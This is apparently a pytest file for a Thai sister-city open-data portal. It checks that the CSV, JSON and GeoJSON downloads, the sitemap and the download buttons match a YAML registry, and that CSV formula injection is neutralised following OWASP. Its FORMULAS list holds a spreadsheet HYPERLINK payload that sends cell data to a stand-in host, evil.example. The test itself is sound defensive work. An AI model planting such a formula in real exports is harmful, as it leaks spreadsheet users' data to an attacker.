"""The downloads round-trip: what the CSV and JSON say is what data/pairs.yaml says."""
from __future__ import annotations

import csv
import io
import json

import yaml

from conftest import ROOT

PAIRS = {r["id"]: r for r in yaml.safe_load((ROOT / "data" / "pairs.yaml").read_text(encoding="utf-8"))}


def read_csv(raw: bytes) -> list[dict]:
    """The CSV's rows as a program that knows the format reads them: a cell that a spreadsheet
    would run as a formula was written with a single quote before it (OWASP), taken off here."""
    def cell(text: str) -> str:
        return text[1:] if text.startswith("'") and text[1:2] in ("=", "+", "-", "@", "\t", "\r") else text
    return [{k: cell(v) for k, v in row.items()} for row in csv.DictReader(io.StringIO(raw.decode("utf-8-sig")))]


def test_csv_opens_in_a_spreadsheet_and_matches_the_registry(outputs):
    raw = outputs["data/pairs.csv"]
    assert raw.startswith("\ufeff".encode())  # BOM: spreadsheet programs then read UTF-8 Thai
    rows = read_csv(raw)
    assert len(rows) == len(PAIRS) == 141
    for row in rows:
        r = PAIRS[row["id"]]
        assert row["status"] == r["status"]
        assert int(row["year_be"]) == r["year_be"] and int(row["list_no"]) == r["list_no"]
        assert row["partner_name_en"] == r["partner"]["name_en"]
        assert row["partner_name_th"] == r["partner"]["name_th"]
        assert row["country_code"] == r["partner"]["country"]
        assert row["source_row"] == r["source"]["row"]
        assert float(row["partner_lat"]) == r["partner"]["lat"]


def test_json_matches_the_registry_and_carries_provinces_and_countries(outputs):
    doc = json.loads(outputs["data/pairs.json"])
    assert doc["as_of"] == "2019-01-04"
    assert len(doc["provinces"]) == 77
    assert {c["code"] for c in doc["countries"]} >= {r["partner"]["country"] for r in PAIRS.values()}
    for row in doc["pairs"]:
        r = PAIRS[row["id"]]
        assert row["partner_name_native"] == r["partner"].get("name_native")
        assert row["notes_en"] == [n["en"] for n in r.get("notes") or []]
        assert row["stage"] == r.get("stage")


def test_geojson_has_one_point_per_pair(outputs):
    doc = json.loads(outputs["data/pairs.geojson"])
    assert doc["type"] == "FeatureCollection" and len(doc["features"]) == 141
    f = doc["features"][0]
    r = PAIRS[f["id"]]
    assert f["geometry"]["coordinates"] == [r["partner"]["lon"], r["partner"]["lat"]]


def test_sitemap_lists_every_page_with_alternates(outputs, built):
    xml = outputs["sitemap.xml"].decode()
    for p in built.pages:
        if p.kind != "404":
            assert f"<loc>http://localhost:8000{p.url}</loc>" in xml
    assert xml.count('hreflang="th"') == xml.count('hreflang="en"')
    assert b"Sitemap: " in outputs["robots.txt"]


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Uozu")', "+1+1", "-2+3", "@SUM(A1:A9)"]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised_and_read_back(project):
    """CSV injection: text beginning with = + - @ gets a leading single quote in pairs.csv (not
    in the JSON), numbers stay numbers, and the round trip gives back the registry's text."""
    from portal.site import build
    pairs = (project / "data" / "pairs.yaml").read_text(encoding="utf-8")
    start = pairs.index("- id: chiang-mai-uozu")
    record = pairs[start:pairs.index("\n- id:", start)]
    edited = (record.replace("name_en: Uozu\n", f"name_en: '{FORMULAS[0]}'\n")
                    .replace("parent_en: Toyama Prefecture", f"parent_en: '{FORMULAS[1]}'")
                    .replace("    alt_names:\n", f"    alt_names:\n    - '{FORMULAS[3]}'\n")
                    .replace("lon: 137.4", "lon: -137.4"))
    assert edited.count("name_en: '=") == 1 and "'@SUM" in edited and "lon: -137.4" in edited
    edited = edited.replace("  notes:\n  - en: ", f"  notes:\n  - en: '{FORMULAS[2]}'\n    th: x\n  - en: ", 1)
    (project / "data" / "pairs.yaml").write_text(pairs.replace(record, edited), encoding="utf-8")
    outputs = build(project, write=False).outputs
    raw = outputs["data/pairs.csv"].decode("utf-8-sig")
    row = next(r for r in csv.DictReader(io.StringIO(raw)) if r["id"] == "chiang-mai-uozu")
    assert row["partner_name_en"] == "'" + FORMULAS[0]
    assert row["partner_parent_en"] == "'" + FORMULAS[1]
    assert row["alt_names"].startswith("'" + FORMULAS[3])
    assert row["notes_en"].startswith("'" + FORMULAS[2])
    assert row["partner_lon"] == "-137.4"                      # a number, not text: no quote
    for line in raw.splitlines()[1:]:                          # no cell of any row starts a formula
        for cell in next(csv.reader([line])):
            assert not cell.startswith(("=", "+", "@")) and not (cell.startswith("-") and not cell[1:2].isdigit()), cell
    back = next(r for r in read_csv(outputs["data/pairs.csv"]) if r["id"] == "chiang-mai-uozu")
    assert back["partner_name_en"] == FORMULAS[0] and back["partner_parent_en"] == FORMULAS[1]
    doc = json.loads(outputs["data/pairs.json"])
    assert next(p for p in doc["pairs"] if p["id"] == "chiang-mai-uozu")["partner_name_en"] == FORMULAS[0]


def test_csv_cell_follows_owasp():
    from portal.opendata import csv_cell
    for text in ("=1+1", "+1", "-1", "@x", "\tx", "\rx"):
        assert csv_cell(text) == "'" + text
    assert csv_cell("Uozu") == "Uozu" and csv_cell(-137.4) == -137.4 and csv_cell(None) == ""
    assert csv_cell(["=a", "b"]) == "'=a | b"


def test_csv_gives_the_month_of_signing_as_numbers_a_spreadsheet_keeps(outputs):
    """Issue 18: a spreadsheet turns '1989-08' into a date; the CSV has signed_year and signed_month
    as numbers and no signed_date, which pairs.json keeps as text."""
    rows = {r["id"]: r for r in read_csv(outputs["data/pairs.csv"])}
    uozu = rows["chiang-mai-uozu"]
    assert "signed_date" not in uozu and (uozu["signed_year"], uozu["signed_month"]) == ("1989", "8")
    assert all(not r["signed_year"] or r["signed_year"].isdigit() for r in rows.values())
    doc = json.loads(outputs["data/pairs.json"])
    j = next(p for p in doc["pairs"] if p["id"] == "chiang-mai-uozu")
    assert j["signed_date"] == "1989-08" and (j["signed_year"], j["signed_month"]) == (1989, 8)


def test_the_data_page_leads_with_buttons_that_say_format_and_size(outputs):
    """The open data page's first links are the downloads, each naming its format and its real size."""
    import re
    for lang, word in (("th", "ดาวน์โหลด"), ("en", "Download")):
        html = outputs[f"{lang}/data/index.html"].decode()
        main = html[html.index("<main"):]
        buttons = re.findall(r'<a class="download" href="/(data/pairs\.\w+)" download>([^<]+)</a>', main)
        assert [b[0] for b in buttons] == ["data/pairs.csv", "data/pairs.json", "data/pairs.geojson"]
        assert main.index('class="download"') < main.index("<nav class=\"toc\"") < main.index("OWASP")
        for name, label in buttons:
            kb = max(1, round(len(outputs[name]) / 1024))
            shown = str(kb) if lang == "en" else "".join("๐๑๒๓๔๕๖๗๘๙"[int(c)] for c in str(kb))
            fmt = {"csv": "CSV", "json": "JSON", "geojson": "GeoJSON"}[name.rsplit(".", 1)[1]]
            assert label == f"{word} {fmt} ({shown} KB)", label
